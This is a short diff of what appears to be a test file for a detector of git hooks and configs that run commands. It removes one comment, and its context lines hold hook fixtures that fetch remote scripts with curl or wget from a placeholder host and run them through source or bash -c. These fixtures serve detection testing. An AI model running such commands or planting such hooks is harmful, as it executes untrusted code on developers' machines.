@@ -30,7 +30,6 @@ silent("config_husky_and_lfs", "git_config_runs_command", ".git/config",
 silent("global_config_pager", "git_config_runs_command", ".gitconfig",
        "gitconfig-delta", "[core]\n\tpager = delta\n[interactive]\n\tdiffFilter = delta --color-only\n[diff]\n\texternal = difft\n")
 
-# Every way a hook fetches or decodes code and runs it.
 for case, name, body in [
     ("hook_source_process_subst", "post-merge-source", "#!/bin/bash\nsource <(curl -s https://hooks.example.org/m)\n"),
     ("hook_bash_c_subst", "pre-push-bash-c", "#!/bin/sh\nbash -c \"$(wget -qO- https://hooks.example.org/p)\"\ngit lfs pre-push \"$@\"\n"),
